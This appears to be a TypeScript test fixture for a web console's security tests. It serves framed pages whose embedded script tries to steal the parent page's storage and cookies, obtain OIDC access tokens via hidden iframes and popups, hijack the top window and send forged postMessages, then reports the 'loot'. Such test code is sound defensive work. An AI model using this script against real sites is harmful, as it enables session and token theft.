import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'

/** Data that a hostile script obtained, by the name of the attack; empty if every attack failed. */
export type StolenData = Record<string, unknown>

/** A view service whose pages attack the page that frames them. */
export interface HostileViews {
  url: string
  /** Sets the origin of the console to attack. */
  aimAt(consoleOrigin: string): void
  /** Resolves with the next page's report. */
  loot(): Promise<StolenData>
  close(): Promise<void>
}

/** Path to which hostile pages report, below any base path. */
const REPORT = '/loot'

/** Starts a service that answers every request with a page that attacks the surrounding console. */
export async function hostileViews(): Promise<HostileViews> {
  let consoleOrigin = ''
  const reports: StolenData[] = []
  const waiting: ((loot: StolenData) => void)[] = []
  const server = createServer((request, response) => {
    if (request.url?.endsWith(REPORT) === true && request.method === 'POST') {
      let body = ''
      request.on('data', (chunk: Buffer) => (body += chunk.toString()))
      request.on('end', () => {
        const loot = JSON.parse(body) as StolenData
        const next = waiting.shift()
        if (next) next(loot)
        else reports.push(loot)
        response.end()
      })
      return
    }
    response.setHeader('content-type', 'text/html; charset=utf-8')
    // The service must not pass these headers on.
    response.setHeader('content-security-policy', 'frame-ancestors *')
    response.setHeader('cross-origin-resource-policy', 'cross-origin')
    const report = `(loot) => fetch('/supervision${REPORT}', { method: 'POST', body: JSON.stringify(loot) })`
    response.end(`<!doctype html><title>Hostile</title><main>A view of another service</main>
      <script>${attackScript(consoleOrigin)}.then(${report})</script>`)
  })
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening))
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    aimAt: (origin) => (consoleOrigin = origin),
    loot: async () => reports.shift() ?? new Promise((resolve) => waiting.push(resolve)),
    close: async () => {
      server.closeAllConnections()
      await new Promise((done) => server.close(done))
    },
  }
}

/** A script that tries every attack on the console that frames it; evaluates to a promise of the stolen data. */
export function attackScript(consoleOrigin: string): string {
  return `(${attack.toString()})(${JSON.stringify(consoleOrigin)})`
}

/** Runs in the page, so it must not use anything defined outside this function. */
async function attack(target: string): Promise<StolenData> {
  const loot: StolenData = {}
  const attempt = async (name: string, work: () => unknown): Promise<void> => {
    try {
      const found = await work()
      if (found !== undefined && found !== null && found !== '' && found !== false) loot[name] = found
    } catch {
      // Refused, as expected.
    }
  }
  const messages: string[] = []
  addEventListener('message', ({ data }) => messages.push(JSON.stringify(data)))
  const pause = (ms: number): Promise<void> => new Promise((wake) => setTimeout(wake, ms))
  const base64 = (bytes: Uint8Array): string =>
    btoa(String.fromCharCode(...bytes))
      .replaceAll('+', '-')
      .replaceAll('/', '_')
      .replaceAll('=', '')
  const verifier = 'x'.repeat(64)
  const challenge = base64(new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(verifier))))
  const signIn = (path: string): string =>
    `${target}/oidc/auth?${new URLSearchParams({
      client_id: 'console',
      response_type: 'code',
      scope: 'openid profile email',
      prompt: 'none',
      redirect_uri: `${target}/auth/${path}`,
      state: 'stolen',
      code_challenge: challenge,
      code_challenge_method: 'S256',
    })}`
  /** Whether the code of the provider's response, wherever it appears, can be exchanged for an access token. */
  const exchangeCode = async (path: string, address: () => string): Promise<unknown> => {
    for (let tries = 0; tries < 15; tries++) {
      await pause(100)
      const seen = [messages.find((message) => message.includes('code='))?.replace(/.*?(https?:[^"]+).*/, '$1') ?? '']
      try {
        seen.push(address())
      } catch {
        // The address belongs to another origin.
      }
      const code = seen.map((url) => /[?&]code=([^&]+)/.exec(url)?.[1]).find(Boolean)
      if (code === undefined) continue
      const body = { grant_type: 'authorization_code', client_id: 'console', code, code_verifier: verifier }
      const answer = await fetch(`${target}/oidc/token`, {
        method: 'POST',
        body: new URLSearchParams({ ...body, redirect_uri: `${target}/auth/${path}` }),
      })
      return ((await answer.json()) as { access_token?: string }).access_token !== undefined
    }
    return undefined
  }
  await attempt('the origin of the console', () => self.origin === target)
  await attempt('the page around', () => parent !== self && parent.document.title)
  await attempt('the element of the frame', () => frameElement?.tagName)
  for (const kind of ['localStorage', 'sessionStorage'] as const) {
    await attempt(`${kind} of the page around`, () => parent[kind].getItem('mine'))
    await attempt(`${kind} of its own`, () => self[kind].getItem('mine'))
  }
  await attempt('cookies', () => /mine=\w+/.exec(document.cookie)?.[0])
  await attempt('an answer of the service', async () => (await fetch(`${target}/api/user/v2/info`, { credentials: 'include' })).status)
  await attempt('the configuration at its own address', async () => (await (await fetch('/config.json')).json()).oidc)
  await attempt('a page of the console at its own address', async () => (await (await fetch('/about')).text()).includes('id="root"'))
  await attempt('a provider at its own address', async () => (await (await fetch('/oidc/.well-known/openid-configuration')).json()).issuer)
  await attempt('a token by a hidden frame', async () => {
    const frame = document.createElement('iframe')
    frame.src = signIn('silent')
    document.body.append(frame)
    return exchangeCode('silent', () => frame.contentWindow?.location.href ?? '')
  })
  messages.length = 0
  await attempt('a token by a popup', async () => {
    const popup = open(signIn('popup'), 'stolen', 'width=300,height=300')
    const found = await exchangeCode('popup', () => popup?.location.href ?? '')
    popup?.close()
    return found
  })
  await attempt('the window of the console', () => {
    // In its own window the page would only navigate itself away and lose its report.
    if (top !== null && top !== self) top.location.href = `${self.origin}/moved`
  })
  for (const message of [
    { source: 'oidc-client', url: `${target}/auth/silent?code=forged&state=forged`, keepOpen: false },
    { source: 'oidc-client', url: `${target}/auth/popup?error=login_required&state=forged` },
    { look: 'dark' },
  ])
    parent.postMessage(message, '*')
  return loot
}
